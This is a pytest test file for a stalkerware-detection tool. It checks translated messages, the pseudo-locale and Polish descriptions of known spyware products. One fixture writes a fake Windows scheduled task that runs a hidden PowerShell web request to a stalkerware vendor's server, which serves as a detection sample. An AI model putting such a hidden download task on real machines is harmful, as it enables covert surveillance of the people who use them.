"""The message catalogues: current with their sources, and every word the app, the command
line and the report show comes from them (the pseudo-locale ``xx`` wraps each message in ⟦…⟧:
a word outside the brackets was not translated, or was glued on from pieces)."""
from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from device_checkup.checks import i18n

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def language():
    before = i18n.language()
    yield i18n.set_language
    i18n.set_language(before)


def test_compiled_catalogues_are_current_with_their_sources():
    """checkup.pot holds every word of the sources; each .po is updated from it; each .mo is
    compiled from its .po (tools/translations.py --check writes nothing)."""
    pytest.importorskip("babel")
    run = subprocess.run([sys.executable, str(ROOT / "tools" / "translations.py"), "--check"],
                         capture_output=True, text=True, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})
    assert run.returncode == 0, run.stdout + run.stderr


def test_a_missing_translation_falls_back_to_english_and_a_known_one_is_used(language):
    from device_checkup.checks import texts
    language("xx")
    assert texts.text("headlines", "nothing").startswith("⟦")
    language("en")
    assert texts.text("headlines", "nothing").startswith("We didn't find")


def test_polish_is_chosen_by_code_and_unknown_codes_are_refused(language):
    from device_checkup.app.gui import words
    language("pl")
    assert words.WELCOME_START != "&Start the check"
    with pytest.raises(ValueError):
        language("zz")


def _leftovers(text: str, data: set[str]) -> list[str]:
    """English words outside every ⟦…⟧ once machine-supplied data is taken out."""
    prev = None
    while prev != text:
        prev, text = text, re.sub(r"⟦[^⟦⟧]*⟧", " ", text)
    text = re.sub(r"\b[0-9a-f]{16,}\b", " ", text)                                        # fingerprints
    for value in sorted(data, key=len, reverse=True):
        text = text.replace(value, " ")
    text = re.sub(r"https?://\S+|\S+@\S+|\b[\w-]+(\.[\w-]+)+\b", " ", text)     # addresses are data
    return [w for w in re.findall(r"[A-Za-z]{2,}", text)]


def test_pseudo_locale_every_screen_shows_only_catalogue_words(qtbot, language):
    """Every screen of an advocate's appointment, in xx: each text run, button, table cell
    and header comes from the catalogue, or is what the machine or a signature file supplied."""
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QAbstractButton, QComboBox, QLabel, QTableView
    from device_checkup.app.gui.window import MainWindow
    from tests.gui_fixtures import FakeDialogs, WaitingSource, every_tier_sources, make_scan
    language("xx")
    waiting = WaitingSource()
    w = MainWindow(scan=make_scan([*every_tier_sources(), waiting]), dialogs=FakeDialogs(), quit=lambda: None,
                   hard_exit=lambda code: None)
    qtbot.addWidget(w)
    data = {"Device Checkup", "SHA", "UTC", "⟦Pseudo⟧", "Test signatures", "English", "Polski",
            "network and security settings"}   # the last: a test source's own words (tests/gui_fixtures.py)
    seen: list[str] = []

    def texts_of(page):
        out = []
        for widget in page.findChildren(QLabel) + page.findChildren(QAbstractButton):
            if widget.isVisibleTo(page) and widget.text():
                out.append(widget.text().replace("&", ""))
            if widget.isVisibleTo(page) and widget.accessibleName():
                out.append(widget.accessibleName())
        for box in page.findChildren(QComboBox):
            out += [box.itemText(i) for i in range(box.count())]
        for table in page.findChildren(QTableView):
            model = table.model()
            for col in range(model.columnCount()):
                out.append(str(model.headerData(col, Qt.Orientation.Horizontal, Qt.ItemDataRole.DisplayRole)))
                out += [str(model.index(row, col).data()) for row in range(model.rowCount())]
        return out

    def check(page, name, extra=frozenset()):
        bad = [(t[:80], _leftovers(t, data | extra)) for t in texts_of(page) if _leftovers(t, data | extra)]
        seen.append(name)
        assert not bad, f"{name}: words outside the catalogue: {bad}"

    check(w.top, "top bar")
    for page in (w.welcome, w.support, w.signatures):
        w.show_page(page)
        check(page, page.objectName())
    w.welcome.advocate.setChecked(True)
    w.welcome.start_button.click()
    assert w.current_page() is w.session_page
    w.session_page.initials.setText("JB")
    check(w.session_page, "session")
    w.session_page.start_button.click()
    qtbot.waitUntil(waiting.started.is_set, timeout=15000)
    qtbot.waitUntil(lambda: "⟦" in w.scan_page.status.text(), timeout=15000)
    check(w.scan_page, "scan", frozenset({"test"}))
    waiting.release.set()
    qtbot.waitUntil(lambda: w.current_page() is w.results, timeout=15000)
    result = w.result
    for card in w.results.cards:
        card.fold.set_open(True)
        card.details.set_open(True)
    check(w.results, "results", frozenset(_result_data(result)))
    w.show_about()
    check(w.about, "about")
    assert seen == ["top bar", "welcomePage", "supportPage", "signaturesPage", "session", "scan", "results", "about"]

def _result_data(result) -> set[str]:
    """What the machine and the signature files supplied to a result: data, not words."""
    from device_checkup.checks.base import shown_value
    from device_checkup.checks.records import to_dict
    data = {"Device Checkup", "SHA", result.snapshot.os_version or "", result.snapshot.platform}
    for f in result.findings:
        data |= {f.family_name or "", f.family or "", f.id}
        for ev in f.evidence:
            data |= {ev.record_kind, shown_value(ev.record_kind, ev.record), ev.check}
            # The record's own fields: names (technical keys, shown to an advocate as they are)
            # and values (what the machine said).
            for key, value in to_dict(ev.record).items():
                data.add(key.replace("_", " "))
                data |= {str(v) for v in (value if isinstance(value, (list, tuple)) else [value]) if v is not None}
            for m in ev.matches:
                data |= {m.kind, m.indicator, m.field, str(m.value), m.file or ""} | set(m.sources)
    for sf in result.signatures.files:
        data |= {sf.label, sf.version or "", sf.path}
    return {" ".join(str(d).split()) for d in data if d}


def _scan_result(sources=None):
    import tempfile
    from device_checkup.checks.engine import run_scan
    from device_checkup.checks.sources.base import Machine
    from device_checkup.checks.sources.fs import FileSystem
    from tests.gui_fixtures import every_tier_sources, signature_set
    return run_scan(signatures=signature_set(), machine=Machine(platform="windows",
                    fs=FileSystem("windows", tempfile.mkdtemp()), live=True), sources=sources or every_tier_sources())


def test_pseudo_locale_the_report_is_all_catalogue_words(language):
    import html as _html
    from device_checkup.app.report import build_html
    from device_checkup.app.session import Session
    language("xx")
    result = _scan_result()
    session = Session(reference="20260101-001", advocate_initials="JB", device_nickname="laptop")
    session.note_for(result.findings[0].id).client_says = "someone-else"
    page = build_html(result, session).split("<script type='application/json'", 1)[0]
    page = re.sub(r"<style>.*?</style>", " ", page, flags=re.S)
    text = " ".join(_html.unescape(re.sub(r"<[^>]+>", " ", page)).split())
    data = _result_data(result) | {"20260101-001", "JB", "laptop", "UTC", "CC BY", "Apache", "LOLRMM", "Echap"}
    data |= {" ".join(str(n.detail).split()) for n in result.not_checked if n.detail}
    data.add("network and security settings")    # a test source's own words (tests/gui_fixtures.py)
    left = _leftovers(text, data)
    assert not left, (sorted(set(left)), text[:3000])


def test_pseudo_locale_command_line_output_is_all_catalogue_words(language):
    from device_checkup.app.cli import render_text
    from device_checkup.checks.base import shown_value
    from device_checkup.checks.engine import run_scan
    from device_checkup.checks.sources.base import Machine
    from device_checkup.checks.sources.fs import FileSystem
    from tests.gui_fixtures import signature_set, spy_sources
    import tempfile
    language("xx")
    result = run_scan(signatures=signature_set(), machine=Machine(platform="windows",
                      fs=FileSystem("windows", tempfile.mkdtemp()), live=True), sources=spy_sources())
    out = " ".join(render_text(result).split())          # wrapped lines joined again
    data = {"Device Checkup", "SHA", result.snapshot.os_version or "", result.snapshot.platform}
    for f in result.findings:                            # what the machine and signature files supplied
        data |= {f.family_name or "", f.family or ""}
        for ev in f.evidence:
            data |= {ev.record_kind, shown_value(ev.record_kind, ev.record)}
            for m in ev.matches:
                data |= {m.kind, m.indicator, m.field, str(m.value), m.file or ""}
    for sf in result.signatures.files:
        data |= {sf.label, sf.version or ""}
    data = {" ".join(str(d).split()) for d in data if d}
    left = _leftovers(out, data)
    assert not left, (left, out)


def _catalogue(code):
    from babel.messages.pofile import read_po
    with open(ROOT / "checks" / "locale" / code / "LC_MESSAGES" / "checkup.po", "rb") as f:
        return read_po(f, locale=code if code in i18n.LANGUAGES else None)


def test_polish_translates_every_message_and_keeps_every_placeholder():
    pytest.importorskip("babel")
    placeholders = lambda s: sorted(set(re.findall(r"\{[A-Za-z_]+\}", s)))
    missing, changed = [], []
    for m in _catalogue("pl"):
        if not m.id:
            continue
        ids = [m.id] if isinstance(m.id, str) else list(m.id)
        strings = [m.string] if isinstance(m.string, str) else list(m.string)
        if m.fuzzy or not all(strings):
            missing.append(ids[0])
            continue
        for s in strings:
            if placeholders(s) != placeholders(ids[-1]):
                changed.append((ids[0], s))
    assert not missing, missing
    assert not changed, changed


def test_polish_keeps_uk_emergency_numbers_and_never_says_safe(language):
    from device_checkup.app.support import load
    language("pl")
    numbers = [n.number for r in load().regions for s in r.services for n in s.phones]
    assert "999" in numbers and "101" in numbers
    # "you are safe" in Polish: jesteś bezpieczny / bezpieczna / bezpieczne
    for m in _catalogue("pl"):
        text = m.string if isinstance(m.string, str) else " ".join(m.string)
        assert not re.search(r"jesteś\s+bezpieczn", text or "", re.I), text


def test_an_edited_translation_is_noticed_like_an_edited_signature_file(tmp_path, monkeypatch):
    """The compiled Polish catalogue is what the app reads: changing it is a finding too."""
    import shutil
    from device_checkup.signatures import manifest
    shipped = manifest.texts_files()
    name = "../../checks/locale/pl/LC_MESSAGES/checkup.mo"
    shutil.copy(shipped[name], tmp_path / "checkup.mo")
    words = {**shipped, name: str(tmp_path / "checkup.mo")}
    monkeypatch.setattr(manifest, "texts_files", lambda: dict(words))
    assert manifest.changes() == []
    data = (tmp_path / "checkup.mo").read_bytes()
    (tmp_path / "checkup.mo").write_bytes(data.replace("Poważne".encode(), "Drobne".encode() + b"\x00"))
    assert manifest.changes() == [f"{name} has been changed"]


@pytest.mark.parametrize("code", ["en", "pl"])
def test_each_screen_keeps_one_keyboard_letter_per_control_in_each_language(qtbot, language, code):
    """Alt+letter must reach one control per screen, whatever the language (a translator picks
    the & letters)."""
    from PySide6.QtWidgets import QAbstractButton, QLabel
    from device_checkup.app.gui.window import MainWindow
    from tests.gui_fixtures import FakeDialogs, every_tier_sources, make_scan
    language(code)
    w = MainWindow(scan=make_scan(every_tier_sources()), dialogs=FakeDialogs(), quit=lambda: None,
                   hard_exit=lambda code: None)
    qtbot.addWidget(w)
    w.show()

    def letters(page):
        out = []
        for widget in (w.top.findChildren(QAbstractButton) + page.findChildren(QAbstractButton)
                       + page.findChildren(QLabel)):
            if not widget.isVisible() or (isinstance(widget, QLabel) and widget.buddy() is None):
                continue
            m = re.search(r"&([^&])", widget.text().replace("&&", ""))
            if m:
                out.append((m.group(1).lower(), widget.text()))
        return out

    clashes = {}
    for page in (w.welcome, w.support, w.signatures):
        w.show_page(page)
        found = letters(page)
        keys = [k for k, _ in found]
        clashes[page.objectName()] = [t for k, t in found if keys.count(k) > 1]
    w.welcome.advocate.setChecked(True)
    w.welcome.start_button.click()
    found = letters(w.session_page)
    clashes["session"] = [t for k, t in found if [x for x, _ in found].count(k) > 1]
    w.session_page.start_button.click()
    qtbot.waitUntil(lambda: w.current_page() is w.results, timeout=15000)
    found = letters(w.results)
    clashes["results"] = [t for k, t in found if [x for x, _ in found].count(k) > 1]
    w.show_about()
    found = letters(w.about)
    clashes["about"] = [t for k, t in found if [x for x, _ in found].count(k) > 1]
    assert not any(clashes.values()), clashes


def test_the_language_chosen_on_the_first_page_changes_every_screen(qtbot, language, tmp_path,
                                                                                    monkeypatch):
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QApplication
    from device_checkup.app.gui import words
    from device_checkup.app.gui.window import MainWindow
    from tests.gui_fixtures import FakeDialogs, make_scan, spy_sources
    language("en")
    w = MainWindow(scan=make_scan(spy_sources()), dialogs=FakeDialogs(), quit=lambda: None,
                   hard_exit=lambda code: None)
    qtbot.addWidget(w)
    assert w.welcome.language.itemData(w.welcome.language.currentIndex()) == "en"
    assert w.welcome.title_label.text() == "Check this laptop for software that can watch you"
    box = w.welcome.language
    box.activated.emit(box.findData("pl"))
    assert i18n.language() == "pl"
    assert w.current_page() is w.welcome
    assert w.welcome.title_label.text() == words.WELCOME_TITLE != "Check this laptop for software that can watch you"
    assert w.top.exit_button.text() == words.EXIT and "Wyj" in words.EXIT.replace("&", "")
    assert w.layoutDirection() == Qt.LayoutDirection.LeftToRight
    # The Polish About page says the translation awaits a native speaker's review.
    w.show_about()
    assert any(words.ABOUT_TRANSLATION == l.text() for l in w.about.findChildren(type(w.about.title_label)))
    # A right-to-left language mirrors the layout.
    w.show_page(w.welcome)
    box = w.welcome.language
    language("yy")
    w._build_pages()
    assert QApplication.instance().layoutDirection() == Qt.LayoutDirection.RightToLeft
    language("en")
    w._build_pages()
    assert QApplication.instance().layoutDirection() == Qt.LayoutDirection.LeftToRight
    # And a check started after choosing Polish speaks Polish.
    w.welcome.language.activated.emit(w.welcome.language.findData("pl"))
    w.welcome.start_button.click()
    qtbot.waitUntil(lambda: w.current_page() is w.results, timeout=15000)
    assert w.result.headline == "Znaleźliśmy program, którego można użyć do obserwowania tego komputera."


def test_checkup_lang_pl_prints_the_scan_in_polish_and_refuses_unknown_languages(tmp_path, capsys, language):
    from device_checkup.app.cli import main
    language("en")
    (tmp_path / "disk").mkdir()
    assert main(["scan", "--root", str(tmp_path / "disk"), "--platform", "linux", "--lang", "pl"]) == 0
    out = capsys.readouterr().out
    assert "Device Checkup — sprawdzenie dysku w" in out
    assert "== Czego sprawdzenie nie widzi ==" in out
    assert "What a scan cannot see" not in out
    assert main(["--lang", "zz"]) == 2
    assert "unknown language" in capsys.readouterr().err


# -- What a known product is: the built-in set's descriptions are catalogue messages -----------

def _builtin_families():
    from device_checkup.signatures.loader import shared_set
    return [f for f in shared_set().families if not f.user_file]


@pytest.mark.parametrize("code", ["pl", "xx", "yy"])
def test_every_built_in_product_description_is_translated(language, code):
    """Every family the built-in set ships (the compiled set the app reads: curated, Echap,
    LOLRMM…) has its description in the catalogue of each language, and so has a phone app's
    shorter phone form."""
    from device_checkup.checks import texts
    families = _builtin_families()
    assert len(families) > 500 and {f.file.split()[-1] for f in families} >= {"curated.yaml", "echap.yaml", "lolrmm.yaml"}
    language(code)
    untranslated = sorted({f.description for f in families if texts.description(f) == f.description} |
                          {f.description for f in families if texts.ON_A_LAPTOP in f.description and
                           texts.description(f, phone=True) == f.description.split(texts.ON_A_LAPTOP)[0]})
    assert not untranslated, untranslated
    if code != "pl":
        assert all(texts.description(f).startswith("⟦") for f in families)


def _windows_disk(root: Path) -> Path:
    """A Windows disk with signs of two built-in families: SpyAgent's install folder
    (curated.yaml) and a scheduled task that fetches from TheTruthSpy's server (echap.yaml)."""
    (root / "Program Files (x86)" / "sysconfig").mkdir(parents=True)
    (root / "Program Files (x86)" / "sysconfig" / "sysdiag.exe").write_bytes(b"MZ")
    tasks = root / "Windows" / "System32" / "Tasks"
    tasks.mkdir(parents=True)
    (tasks / "Updater").write_text(
        '<?xml version="1.0"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        "<Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -c iwr https://thetruthspy.com/u"
        "</Arguments></Exec></Actions></Task>\n", "utf-8")
    return root


@pytest.mark.parametrize("code", ["pl", "xx"])
def test_a_found_product_is_described_in_the_chosen_language_on_the_command_line(tmp_path, capsys, language, code):
    """`checkup scan --lang` on a disk with two built-in families: the text and the JSON say
    what each product is in that language, never in English."""
    import json
    from device_checkup.app.cli import main
    from device_checkup.checks import texts
    language("en")
    disk = _windows_disk(tmp_path / "disk")
    families = {f.id: f for f in _builtin_families() if f.id in ("spyagent", "echap.thetruthspy")}
    assert families["spyagent"].file.endswith("curated.yaml") and families["echap.thetruthspy"].file.endswith("echap.yaml")
    argv = ["scan", "--root", str(disk), "--platform", "windows", "--lang", code]
    assert main(argv) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert main(argv + ["--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    what = {f["family"]: f["explanation"]["what"] for f in data["findings"] if f.get("family")}
    assert set(what) >= set(families)
    language(code)
    for fid, fam in families.items():
        shown = texts.description(fam)
        assert shown != fam.description
        assert fam.description not in out and shown in out
        assert what[fid] == shown
    if code == "pl":
        assert what["spyagent"].startswith("Program sprzedawany do potajemnego obserwowania komputera innej osoby.")
        assert what["echap.thetruthspy"].startswith("Aplikacja na telefon sprzedawana do potajemnego obserwowania")
        assert "Na laptopie" in what["echap.thetruthspy"]
    else:
        assert all(w.startswith("⟦") and w.endswith("⟧") for w in what.values())


def test_a_description_no_catalogue_holds_is_shown_as_written(tmp_path, capsys, language):
    """A signature file the person adds speaks its own words: its description is shown as
    written, in any language (docs/signatures.md)."""
    from device_checkup.app.cli import main
    language("en")
    disk = tmp_path / "disk"
    (disk / "opt" / "acme-watch").mkdir(parents=True)
    sig = tmp_path / "mine.yaml"
    sig.write_text("schema: 1\nfamilies:\n  - id: acme-watch\n    name: AcmeWatch\n    tier: stalkerware\n"
                   "    description: Made up for this test, by the person who added the file.\n"
                   "    sources: [https://example.org/acme]\n    indicators:\n      file_paths: [/opt/acme-watch]\n",
                   "utf-8")
    assert main(["scan", "--root", str(disk), "--platform", "linux", "--signatures", str(sig), "--lang", "pl"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "Made up for this test, by the person who added the file." in out
    assert "Co to jest:" in out


def test_the_app_the_report_and_a_phone_describe_products_in_polish(qtbot, language):
    """The same Polish words on the app's card, in the saved report and for a phone app (whose
    description leaves out what a laptop can show)."""
    from device_checkup.app.gui.window import MainWindow
    from device_checkup.app.report import build_html
    from device_checkup.app.session import Session
    from device_checkup.checks import texts
    from device_checkup.checks.phone.adb import Phone, Recorded
    from device_checkup.checks.phone.scan import scan_android
    from device_checkup.signatures.loader import shared_set
    from tests.gui_fixtures import FakeDialogs, make_scan, signature_set, spy_sources
    from tests.test_android import stalkerware_phone
    spyagent = signature_set().family("spyagent")
    language("pl")
    polish = texts.description(spyagent)
    assert polish.startswith("Program sprzedawany do potajemnego obserwowania komputera innej osoby.")
    w = MainWindow(scan=make_scan(spy_sources()), dialogs=FakeDialogs(), quit=lambda: None, hard_exit=lambda code: None)
    qtbot.addWidget(w)
    w.welcome.start_button.click()
    qtbot.waitUntil(lambda: w.current_page() is w.results, timeout=15000)
    card = next(c for c in w.results.cards if c.finding.family == "spyagent")
    card.fold.set_open(True)
    shown = [l.text() for l in card.findChildren(type(w.results.title_label)) if l.isVisibleTo(card)]
    assert any(polish in " ".join(t.split()) for t in shown), shown
    page = build_html(w.result, Session())
    assert polish in " ".join(page.split()) and spyagent.description not in page
    phone = scan_android(Phone(Recorded(stalkerware_phone())), shared_set())
    spy = next(f for f in phone.findings if f.family == "echap.thetruthspy")
    assert spy.what.startswith("Aplikacja na telefon sprzedawana do potajemnego obserwowania")
    assert "laptop" not in spy.what and "On a laptop" not in spy.what


def test_an_iphone_backup_finding_describes_the_app_in_polish(tmp_path, language):
    """MVT's real iPhone backup with FindMyKids (Echap) added: the finding says what the app is in
    Polish, in its phone form."""
    import gzip
    import plistlib
    import shutil
    from device_checkup.checks.phone.ios_backup import scan_backup
    from device_checkup.signatures.loader import shared_set
    from tests.test_ios_backup import DATA
    folder = tmp_path / "backup"
    folder.mkdir()
    info = plistlib.loads(Path(DATA, "Info.plist").read_bytes())
    info["Installed Applications"].append("com.wheremychildren.ios")
    (folder / "Info.plist").write_bytes(plistlib.dumps(info))
    with gzip.open(Path(DATA, "Manifest.db.gz")) as src, open(folder / "Manifest.db", "wb") as dst:
        shutil.copyfileobj(src, dst)
    language("pl")
    [finding] = scan_backup(str(folder), shared_set()).findings
    assert finding.family.startswith("echap.")
    # FindMyKids is in Echap's stalkerware list too, and that tier is the one reported.
    assert finding.tier == "stalkerware"
    assert finding.what == ("Aplikacja na telefon sprzedawana do potajemnego obserwowania innej osoby: może przekazywać "
                            "jej wiadomości, połączenia, zdjęcia i lokalizację temu, kto ją zainstalował.")


def test_english_catalogue_answers_as_gettexts_null_translations():
    import gettext
    from device_checkup.checks import i18n
    null, ours = gettext.NullTranslations(), i18n.catalogue(i18n.SOURCE)
    for n in (0, 1, 2, 5):
        assert ours.ngettext("one file", "{n} files", n) == null.ngettext("one file", "{n} files", n)
    assert ours.gettext("Exit") == null.gettext("Exit") and ours.pgettext("date", "x") == null.pgettext("date", "x")
